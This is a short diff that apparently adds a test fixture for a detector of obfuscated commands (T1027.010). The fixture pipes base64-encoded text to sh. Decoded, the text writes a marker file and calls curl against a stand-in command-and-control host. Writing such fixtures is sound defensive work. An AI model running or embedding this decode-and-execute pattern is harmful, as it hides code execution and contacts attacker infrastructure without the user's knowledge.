@@ -1,0 +1,4 @@
+# expect: decoded-code-run | source: T1027.010
+base64 -d <<LOOK | sh
+ZWNobyBsb29rID4gL3RtcC9sb29rLmZpcmVkOyBjdXJsIC1zIGh0dHA6Ly9jMi5leGFtcGxlLmludmFsaWQv
+LOOK
